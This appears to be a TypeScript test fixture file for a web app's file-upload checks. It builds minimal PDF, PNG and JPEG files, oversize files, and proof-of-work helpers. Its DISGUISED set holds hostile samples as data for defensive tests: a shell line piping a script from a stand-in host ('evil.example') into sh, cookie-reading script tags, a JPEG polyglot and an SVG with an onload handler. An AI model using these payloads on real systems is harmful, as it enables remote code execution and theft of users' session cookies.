import zlib from 'node:zlib'
import { solveAltcha } from './consumerAuth'

/**
 * Files for the upload tests (issue 10 §2): real small PDF, JPEG and PNG files, and the
 * disguised ones a form must refuse by their bytes.
 */

export const PDF = Buffer.from('%PDF-1.4\n1 0 obj<< /Type /Catalog >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n')

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(zlib.crc32(body) >>> 0)
  return Buffer.concat([head, body, crc])
}

/** A 1×1 PNG. */
export const PNG = (() => {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(1, 0)
  ihdr.writeUInt32BE(1, 4)
  ihdr.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(Buffer.from([0, 255, 0, 0]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
})()

/** A minimal JPEG (SOI, APP0 JFIF, EOI): enough for the magic-number check. */
export const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xff, 0xd9])

/** Disguised files: each must be refused whatever its name or declared type. */
export const DISGUISED = {
  /** a script named .pdf */
  scriptAsPdf: Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'),
  /** an HTML page named .pdf */
  htmlAsPdf: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'),
  /** a PDF header with an HTML body */
  pdfWithHtmlBody: Buffer.from('%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n'),
  /** a polyglot: a valid JPEG with a script appended after its end marker */
  jpegPolyglot: Buffer.concat([JPEG, Buffer.from('<script>alert(1)</script>')]),
  /** a JPEG whose comment carries an HTML page (still ends with FFD9) */
  jpegWithHtmlComment: Buffer.concat([JPEG.subarray(0, 20), Buffer.from([0xff, 0xfe, 0x00, 0x20]), Buffer.from('<html><script>x</script></html>'), Buffer.from([0xff, 0xd9])]),
  /** an SVG (XML with script) named .png */
  svgAsPng: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
}

/** A file just over the 2 MB limit, with a PDF's magic and end. */
export const OVERSIZE_PDF = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(2 * 1024 * 1024, 0x20), Buffer.from('\n%%EOF\n')])

/** A PDF over the admin documents' 20 MB limit (server/services/uploads.ts ADMIN_PDF_MAX_BYTES). */
export const OVERSIZE_ADMIN_PDF = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(20 * 1024 * 1024, 0x20), Buffer.from('\n%%EOF\n')])

/**
 * The proof of work of a public form's JSON call with files (issue 27 §6): `X-Altcha` with a
 * solved challenge of the app's otpChallenge service, usable once.
 */
export async function uploadPow(t: {
  services: { otpChallenge: { create(): Promise<{ algorithm: string; challenge: string; maxnumber?: number; salt: string; signature: string }> } }
}): Promise<Record<string, string>> {
  return { 'X-Altcha': await solveAltcha(await t.services.otpChallenge.create()) }
}

/**
 * Solved challenges made ahead (`fill`), handed out one per request (`next`, synchronous, so a
 * supertest chain stays a chain).
 */
export function uploadPowPool(t: Parameters<typeof uploadPow>[0]) {
  const ready: Array<Record<string, string>> = []
  return {
    async fill(n: number) {
      for (let i = 0; i < n; i++) ready.push(await uploadPow(t))
    },
    next(): Record<string, string> {
      const h = ready.shift()
      if (!h) throw new Error('the pool of solved challenges is empty: fill it first')
      return h
    },
  }
}
